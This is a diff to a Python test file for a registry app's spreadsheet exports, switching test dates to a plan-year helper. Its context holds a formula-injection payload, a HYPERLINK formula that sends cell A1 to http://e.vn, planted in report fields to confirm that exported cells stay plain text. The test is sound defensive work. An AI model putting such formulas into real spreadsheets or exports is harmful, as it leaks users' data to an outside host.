@@ -16,6 +16,7 @@ from registry.extensions import db
 from registry.models import Certificate, Plan, Province, Target
 from registry.services import certificates, progress, reports
 from registry.services.spreadsheets import FORMULA_TRIGGERS, append, csv_bytes, csv_cell, looks_like_formula, put
+from tests.helpers import in_year, plan_year
 
 # What a hostile producer or officer would type after the trigger: a formula that phones home.
 PAYLOAD = 'HYPERLINK("http://e.vn/?"&A1)'
@@ -34,7 +35,7 @@ def originals(app):
 
 def _plant(world, trigger: str, originals) -> dict[str, str]:
     """Every text field that reaches the annual report, set (past any input rule) to trigger + payload."""
-    year = date.today().year
+    year = plan_year()  # a year of the plan's targets (2026–2030), whatever today is
     org = world.organization("thai-nguyen")
     body = world.body()
     cert = certificates.create_certificate(
@@ -44,7 +45,7 @@ def _plant(world, trigger: str, originals) -> dict[str, str]:
             "certification_body_id": body.id,
             "organization_id": org.id,
             "category": "product_standard",
-            "issued_on": date(year, 1, 2),
+            "issued_on": in_year(year, 1, 2),
         },
     )
     progress.record_figure(
@@ -83,7 +84,7 @@ def _plant(world, trigger: str, originals) -> dict[str, str]:
 @pytest.mark.parametrize("trigger", FORMULA_TRIGGERS, ids=[f"U+{ord(c):04X}" for c in FORMULA_TRIGGERS])
 def test_no_exported_cell_is_a_formula_and_every_planted_text_reads_as_typed(world, trigger, originals):
     planted = _plant(world, trigger, originals)
-    report = reports.build_report("thai-nguyen", date.today().year)
+    report = reports.build_report("thai-nguyen", plan_year())
 
     wb = openpyxl.load_workbook(io.BytesIO(reports.render(report, "xlsx")))
     texts: list[str] = []
